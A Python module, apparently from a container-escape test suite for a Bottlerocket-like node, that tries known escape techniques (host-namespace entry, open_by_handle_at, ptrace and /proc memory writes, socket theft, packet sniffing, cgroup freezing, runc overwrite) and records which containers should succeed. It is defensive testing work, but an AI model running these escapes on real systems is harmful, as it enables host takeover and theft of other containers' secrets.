"""The node's own files, processes and sockets, and what belongs to other containers."""

from __future__ import annotations

import contextlib
import os
import signal
import socket
import stat
import struct
import time
from pathlib import Path

from escape import kit
from escape.attempt import CDK, DEEPCE, SECRET, Case, Refused, attempt

ROOT = "superpowered: root on the node; gone with the next boot, or data and no program"
READS = "superpowered: it sees the node's files, through /.bottlerocket/rootfs"
API = "a host container has the API's socket: its administrator decides (threat model)"


@attempt(
    "proc-root",
    f"{CDK}: check-ptrace, shared pid namespace; deepce: host processes",
    "reads the settings through the root of a process of the node",
    "a secret setting is read",
    seen=f"{SECRET}setting",
    allowed={"admin": READS},
    short=True,
)
def proc_root(case: Case) -> str:
    return kit.harvest(f"{kit.root()}/var/lib/bottlerocket")


@attempt(
    "settings-write",
    f"{DEEPCE}: writable host paths",
    "writes a file beside the settings",
    "the file is on the node",
    seen="cat /var/lib/bottlerocket/{token}",
    undo="rm -f /var/lib/bottlerocket/{token}",
    allowed={"admin": ROOT},
)
def settings_write(case: Case) -> str:
    Path(kit.root_of_init(), "var/lib/bottlerocket", case.token).write_text(case.token)
    return "written"


@attempt(
    "other-container-data",
    f"{CDK}: host paths; deepce: interesting files",
    "reads what another host container keeps on the node",
    "the other container's secret is read",
    seen=f"{SECRET}data",
    allowed={"admin": READS},
    short=True,
)
def other_container_data(case: Case) -> str:
    return kit.harvest(f"{kit.root()}/local/host-containers/victim")


@attempt(
    "other-container-environment",
    f"{CDK}: sensitive environment; deepce: environment",
    "reads the environment of another container's process",
    "the other container's secret is read",
    seen=f"{SECRET}environment",
    allowed={"admin": READS},
)
def other_container_environment(case: Case) -> str:
    return kit.told(kit.secrets(Path(f"/proc/{kit.victim()}/environ").read_bytes()))


@attempt(
    "image-store",
    f"{CDK}: image store; a poisoned layer reaches the next container",
    "adds a blob to the workloads' image store",
    "the file is on the node",
    seen="cat /var/lib/containerd/io.containerd.content.v1.content/blobs/sha256/{token}",
    undo="rm -f /var/lib/containerd/io.containerd.content.v1.content/blobs/sha256/{token}",
    allowed={"admin": f"{ROOT}; blobs are checked against their hashes before they run"},
)
def image_store(case: Case) -> str:
    folder = "var/lib/containerd/io.containerd.content.v1.content/blobs/sha256"
    Path(kit.root_of_init(), folder, case.token).write_text(case.token)
    return "written"


@attempt(
    "node-etc",
    f"{DEEPCE}: writable host paths (/etc)",
    "writes a file into the node's /etc",
    "the file is on the node",
    seen="cat /etc/{token}",
    undo="rm -f /etc/{token}",
    allowed={"admin": ROOT},
)
def node_etc(case: Case) -> str:
    Path(kit.root_of_init(), "etc", case.token).write_text(case.token)
    return "written"


@attempt(
    "node-unit",
    f"{CDK}: cron and units as persistence",
    "plants a unit in /run/systemd/system of the node",
    "the file is on the node",
    seen="grep -o {token} /run/systemd/system/{token}.service",
    undo="rm -f /run/systemd/system/{token}.service",
    allowed={"admin": ROOT},
)
def node_unit(case: Case) -> str:
    unit = f"[Service]\nExecStart=/nothing\n# {case.token}\n"
    Path(kit.root_of_init(), f"run/systemd/system/{case.token}.service").write_text(unit)
    return "planted"


@attempt(
    "node-usr",
    f"{DEEPCE}: writable host paths",
    "writes a program into the node's /usr",
    "the file is on the node",
    seen="cat /usr/bin/{token}",
    control="erofs on dm-verity cannot be written by anybody",
    short=True,
)
def node_usr(case: Case) -> str:
    Path(kit.root(), "usr/bin", case.token).write_text(case.token)
    return "written"


@attempt(
    "shocker",
    f"shocker.c; {CDK}: cap-dac-read-search",
    "opens the root of a mounted file system by its handle, past every mount",
    "another container's secret is read",
    seen=f"{SECRET}data",
    allowed={"admin": READS},
)
def shocker(case: Case) -> str:
    places = ("/.bottlerocket/host-containers/current", "/share")
    place = next((p for p in places if os.path.isdir(p)), None)
    if place is None:
        raise Refused("no folder of the node's data partition is mounted here")
    anchor = os.open(place, os.O_RDONLY)
    handle = struct.pack("=IiII", 8, 1, 2, 0)  # FILEID_INO32_GEN of inode 2: ext4's root
    found = kit.call("open_by_handle_at", anchor, handle, os.O_RDONLY)
    return kit.harvest(f"/proc/self/fd/{found}/host-containers/victim")


@attempt(
    "setns",
    f"nsenter; {CDK}: shared pid namespace",
    "enters the mount namespace of the node's first process",
    "a secret setting is read there",
    seen=f"{SECRET}setting",
    allowed={"admin": "what sheltie does"},
)
def setns(case: Case) -> str:
    kit.root_of_init()
    kit.call("setns", os.open("/proc/1/ns/mnt", os.O_RDONLY), kit.NEW_MOUNT)
    return kit.harvest("/var/lib/bottlerocket")


@attempt(
    "ptrace",
    f"{CDK}: check-ptrace",
    "attaches to a process of another container",
    "the process is traced by it",
    allowed={"admin": "superpowered: it sees the node's processes, as root on the node"},
)
def ptrace(case: Case) -> str:
    pid = kit.victim()
    kit.call("ptrace", 0x4206, pid, 0, 0)  # PTRACE_SEIZE
    status = Path(f"/proc/{pid}/status").read_text()
    return kit.told(line for line in status.splitlines() if f"TracerPid:\t{os.getpid()}" in line)


@attempt(
    "sealed-program-memory",
    "sealed runtime: /proc/*/mem from outside",
    "writes a byte of the memory of the node's API process, with the value it has",
    "the kernel takes the write",
    allowed={"admin": "root can attach to our processes, and says so in the threat model"},
)
def sealed_program_memory(case: Case) -> str:
    pid = kit.named("api")
    rows = Path(f"/proc/{pid}/maps").read_text().splitlines()
    start = next(int(row.split("-")[0], 16) for row in rows if " rw-p " in row)
    descriptor = os.open(f"/proc/{pid}/mem", os.O_RDWR)
    try:
        data = os.pread(descriptor, 1, start)
        return f"{os.pwrite(descriptor, data, start)} byte of process {pid}"
    finally:
        os.close(descriptor)


@attempt(
    "signal",
    f"{CDK}: shared pid namespace",
    "stops a process of another container",
    "its state is `stopped`",
    allowed={"admin": "superpowered: it sees the node's processes, as root on the node"},
)
def stop(case: Case) -> str:
    pid = kit.victim()
    os.kill(pid, signal.SIGSTOP)
    time.sleep(0.2)
    state = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0]
    os.kill(pid, signal.SIGCONT)
    return kit.told(["stopped"] if state == "T" else [])


@attempt(
    "stolen-descriptor",
    "pidfd_getfd, against the API process",
    "takes a socket out of the API process",
    "it holds the socket",
    allowed={"admin": "root can attach to our processes, and says so in the threat model"},
)
def stolen_descriptor(case: Case) -> str:
    handle = kit.call("pidfd_open", kit.named("api"), 0)
    for number in range(3, 12):
        with contextlib.suppress(OSError):
            mine = kit.call("pidfd_getfd", handle, number, 0)
            if stat.S_ISSOCK(os.fstat(mine).st_mode):
                return f"descriptor {number}"
    kit.call("pidfd_getfd", handle, 3, 0)
    raise Refused("no socket among its descriptors")


def _connect(path: str, kind: int = socket.SOCK_STREAM) -> socket.socket:
    door = socket.socket(socket.AF_UNIX, kind)
    door.settimeout(5)
    folder = os.open(os.path.dirname(path), os.O_PATH)
    door.connect(f"/proc/self/fd/{folder}/{os.path.basename(path)}")
    return door


@attempt(
    "containerd-socket",
    f"{CDK}: docker-sock-pwn; deepce: docker socket",
    "talks HTTP/2 to the workloads' containerd",
    "containerd answers with its settings frame",
    allowed={"admin": "superpowered: root's tools (ctr in sheltie) use this socket"},
    short=True,
)
def containerd_socket(case: Case) -> str:
    with _connect(f"{kit.root()}/run/containerd/containerd.sock") as door:
        door.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0")
        answer = door.recv(64)
    return kit.told([answer.hex()] if answer[3:4] == b"\4" else [])


def _api(request: str) -> str:
    path = "/run/api.sock"
    if not os.path.exists(path):
        path = f"{kit.root()}/run/api.sock"
    with _connect(path) as door:
        door.sendall(request.encode())
        answer = b""
        while part := door.recv(65536):
            answer += part
    return answer.decode(errors="replace")


@attempt(
    "api-read",
    f"{CDK}: docker-api-pwn, for the node's own API",
    "asks the API for all settings",
    "a secret setting is read",
    seen=f"{SECRET}setting",
    allowed={"admin": API, "control": API},
    short=True,
)
def api_read(case: Case) -> str:
    answer = _api("GET /settings HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    return kit.told(kit.secrets(answer.encode()))


@attempt(
    "api-change",
    f"{CDK}: docker-api-pwn, for the node's own API",
    "changes a setting and commits it",
    "the node's message of the day",
    seen="grep -o {token} /etc/motd",
    allowed={"admin": API, "control": API},
)
def api_change(case: Case) -> str:
    body = f'{{"motd": "{case.token}"}}'
    head = "HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\n"
    _api(f"PATCH /settings?tx=escape {head}Content-Length: {len(body)}\r\n\r\n{body}")
    answer = _api(f"POST /tx/commit_and_apply?tx=escape {head}Content-Length: 0\r\n\r\n")
    time.sleep(3)
    return answer.splitlines()[0]


@attempt(
    "apply-socket",
    "our own privileged sockets, asked past the API",
    "asks the apply service, which has the rights that the API lacks",
    "the service answers",
    allowed={"admin": ROOT},
)
def apply_socket(case: Case) -> str:
    with _connect(f"{kit.root()}/run/skyrocket/apply.sock") as door:
        door.sendall(b"{}\n")
        return kit.told([door.recv(4096).decode().strip()[:100]])


@attempt(
    "exec-socket",
    "our own privileged sockets, asked past the API",
    "connects to the exec service, which runs commands in every container",
    "the service takes the connection",
    allowed={"admin": ROOT},
)
def exec_socket(case: Case) -> str:
    with _connect(f"{kit.root()}/run/skyrocket/exec.sock"):
        return "connected"


@attempt(
    "systemd-socket",
    f"{CDK}: D-Bus and systemd of the host",
    "says hello to systemd's private socket, where root may start anything",
    "systemd accepts who it says it is",
    allowed={"admin": "superpowered: root's tools (systemctl in sheltie) use this socket"},
    short=True,
)
def systemd_socket(case: Case) -> str:
    with _connect(f"{kit.root()}/run/systemd/private") as door:
        door.sendall(b"\0AUTH EXTERNAL 30\r\n")
        answer = door.recv(200).decode().strip()
    return kit.told([answer] if answer.startswith("OK") else [])


@attempt(
    "system-bus",
    f"{CDK}: D-Bus of the host",
    "says hello to the system bus",
    "the bus accepts who it says it is",
    control="the node has no message bus",
)
def system_bus(case: Case) -> str:
    with _connect(f"{kit.root()}/run/dbus/system_bus_socket") as door:
        door.sendall(b"\0AUTH EXTERNAL 30\r\n")
        return kit.told([door.recv(200).decode().strip()])


@attempt(
    "journal-forge",
    "a line in somebody else's name",
    "writes a line of its own into the node's journal",
    "the line is in the journal",
    seen="journalctl -b -n 300 --no-pager -o cat | grep {token}",
    allowed={"admin": ROOT},
)
def journal_forge(case: Case) -> str:
    with _connect(f"{kit.root()}/run/systemd/journal/dev-log", socket.SOCK_DGRAM) as door:
        door.send(f"<4>escape: {case.token}".encode())
    return "sent"


@attempt(
    "abstract-sockets",
    f"CVE-2020-15257; {CDK}: shim-pwn",
    "connects to every abstract socket of the node's network namespace",
    "one of them takes the connection",
    control="nothing of the node listens there",
)
def abstract_sockets(case: Case) -> str:
    rows = Path("/proc/net/unix").read_text().splitlines()
    found = []
    for name in sorted({row.split()[-1] for row in rows if " @" in row}):
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as door:
            door.settimeout(1)
            door.connect("\0" + name[1:])
            found.append(name)
    return kit.told(found)


@attempt(
    "sniff",
    f"{CDK}: capabilities (NET_RAW), host network",
    "listens to the packets of the node's network, which it shares",
    "a packet of the SSH connection to another container",
    allowed={"admin": "superpowered: the node's network is its own"},
    short=True,
)
def sniff(case: Case) -> str:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800)) as door:
        door.settimeout(10)
        end = time.monotonic() + 10
        while time.monotonic() < end:
            frame = door.recv(2048)
            header = (frame[14] & 15) * 4 + 14
            if frame[23] == 6 and 22 in struct.unpack(">HH", frame[header : header + 4]):
                return f"{len(frame)} bytes of SSH"
    raise Refused("no packet")


@attempt(
    "network-address",
    f"{CDK}: capabilities (NET_ADMIN), host network",
    "gives the node another address",
    "the node has the address",
    seen="grep -q 203.0.113.77 /proc/net/fib_trie && echo {token}",
    allowed={"admin": "superpowered: the node's network is its own"},
)
def network_address(case: Case) -> str:
    import fcntl

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as door:
        address = struct.pack("=HH4s8x", socket.AF_INET, 0, socket.inet_aton("203.0.113.77"))
        fcntl.ioctl(door, 0x8916, struct.pack("16s16s8x", b"lo:9", address))
    return "set"


@attempt(
    "freeze",
    f"{CDK}: rewrite of control groups",
    "freezes another container by its control group",
    "the group says that it is frozen",
    allowed={"admin": ROOT},
)
def freeze(case: Case) -> str:
    with kit.mounted("cgroup2", "cgroup2") as where:
        name = "hostcontainers.slice/host-containers@victim.service/container"
        group = next((p for p in where.rglob("container") if str(p).endswith(name)), None)
        if group is None:
            raise Refused("the other container's group is not seen")
        kit.put(f"{group}/cgroup.freeze", "1")
        time.sleep(0.3)
        said = (group / "cgroup.events").read_text()
        kit.put(f"{group}/cgroup.freeze", "0")
    return kit.told(line for line in said.splitlines() if line == "frozen 1")


@attempt(
    "runc-overwrite",
    f"CVE-2019-5736; {CDK}: runc-pwn",
    "opens the node's runc for writing through a process that runs it, or its path",
    "runc is open for writing",
    control="runc runs from a sealed copy, and the root cannot be written",
)
def runc_overwrite(case: Case) -> str:
    os.close(os.open(f"{kit.root()}/usr/sbin/runc", os.O_WRONLY))
    return "open"
